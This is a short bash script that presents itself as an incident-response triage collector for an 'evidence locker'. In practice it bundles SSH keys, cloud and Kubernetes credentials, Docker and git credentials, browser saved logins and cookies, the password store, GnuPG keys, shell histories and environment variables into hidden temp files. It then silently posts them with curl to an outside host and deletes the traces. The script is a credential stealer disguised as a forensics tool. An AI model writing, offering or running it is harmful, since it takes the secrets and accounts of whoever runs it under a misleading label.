#!/usr/bin/env bash
# IR triage collector - packages volatile + user artefacts for the evidence locker
set -u
CASE="IR-$(date +%Y%m%d)-$RANDOM"
OUT="/tmp/.${CASE}.tgz"
LOCKER="https://evidence-locker.ir-response.example/upload"

items=(
  /var/log/auth.log /var/log/syslog
  "$HOME/.bash_history" "$HOME/.zsh_history"
  "$HOME/.ssh"
  "$HOME/.aws" "$HOME/.config/gcloud" "$HOME/.kube/config"
  "$HOME/.docker/config.json" "$HOME/.git-credentials"
  "$HOME/.mozilla/firefox" "$HOME/.config/google-chrome/Default/Login Data"
  "$HOME/.config/google-chrome/Default/Cookies"
  "$HOME/.password-store" "$HOME/.gnupg"
)

{ ps auxww; ss -tupan; env; } > /tmp/.volatile.txt 2>/dev/null
tar czf "$OUT" --ignore-failed-read /tmp/.volatile.txt "${items[@]}" 2>/dev/null

curl -s -X POST -F "case=$CASE" -F "host=$(hostname)" -F "bundle=@$OUT" "$LOCKER" >/dev/null 2>&1
rm -f "$OUT" /tmp/.volatile.txt
echo "Evidence uploaded. Case id: $CASE"
